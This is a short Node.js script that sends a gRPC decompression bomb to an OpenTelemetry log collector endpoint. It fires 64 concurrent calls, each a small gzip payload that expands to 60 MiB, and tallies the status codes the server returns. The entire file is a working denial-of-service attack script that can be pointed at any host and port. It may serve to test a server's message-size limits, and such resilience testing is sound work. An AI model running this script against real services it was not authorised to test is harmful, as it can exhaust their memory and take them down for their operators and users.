// Many calls over one gRPC connection at once, each small as it is sent and large when it is unpacked; prints how often
// which status came.
//
// Usage: node send_grpc_bomb.mjs HOST:PORT
import http2 from "node:http2";
import { gzipSync } from "node:zlib";

const CALLS = 64;
const UNPACKED = 60 << 20;

const packed = gzipSync(Buffer.alloc(UNPACKED));
const head = Buffer.alloc(5);
head.writeUInt8(1);
head.writeUInt32BE(packed.length, 1);
const message = Buffer.concat([head, packed]);

const connection = http2.connect(`http://${process.argv[2]}`);
const call = () =>
  new Promise((resolve, reject) => {
    const stream = connection.request({
      ":method": "POST",
      ":path": "/opentelemetry.proto.collector.logs.v1.LogsService/Export",
      "content-type": "application/grpc",
      "grpc-encoding": "gzip",
      te: "trailers",
    });
    let status;
    // An error is told with the headers, an answer behind its message.
    for (const told of ["response", "trailers"]) {
      stream.on(told, (headers) => (status = headers["grpc-status"] ?? status));
    }
    stream.on("error", reject);
    stream.on("close", () => resolve(status));
    stream.resume();
    stream.end(message);
  });
const counts = {};
for (const status of await Promise.all(Array.from({ length: CALLS }, call))) {
  counts[status] = (counts[status] ?? 0) + 1;
}
connection.close();
console.log(JSON.stringify(counts));
